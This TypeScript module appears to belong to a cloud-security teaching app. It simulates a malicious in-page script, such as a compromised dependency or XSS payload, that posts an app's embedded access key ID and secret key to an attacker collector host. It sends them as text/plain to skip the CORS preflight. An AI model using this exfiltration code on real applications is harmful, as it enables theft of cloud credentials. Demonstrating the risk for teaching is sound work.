import { fromPromise } from 'xstate';
import { attackerCollectorHost } from '$lib/cloud/attacker/attacker-host';
import type { CloudFetch } from '$lib/cloud';
import type { LongTermKey } from '../developer-types';

export interface StealKeysInput {
	/** The page's network: the script runs inside the app. */
	fetch: CloudFetch;
	/** The key the app's bundle carries. */
	key: LongTermKey;
}

/** Where the script sends what it found. */
export const keysCollectorUrl = `https://${attackerCollectorHost}/keys`;

/**
 * What a script in the page (a compromised dependency, an XSS payload) does with keys that sit in
 * the app's JavaScript: post them to the attacker. A string body goes as `text/plain`, a "simple"
 * cross-origin request with no CORS preflight; the script never reads the answer. Any visitor could
 * as well read them in the page's source. Resolves with exactly what was sent.
 */
export async function stealKeys(input: StealKeysInput): Promise<LongTermKey> {
	const stolen = { accessKeyId: input.key.accessKeyId, secretAccessKey: input.key.secretAccessKey };
	await input.fetch(keysCollectorUrl, {
		method: 'POST',
		headers: { 'Content-Type': 'text/plain;charset=UTF-8' },
		body: JSON.stringify(stolen)
	});
	return stolen;
}

export const stealKeysActor = fromPromise<LongTermKey, StealKeysInput>(({ input }) =>
	stealKeys(input)
);
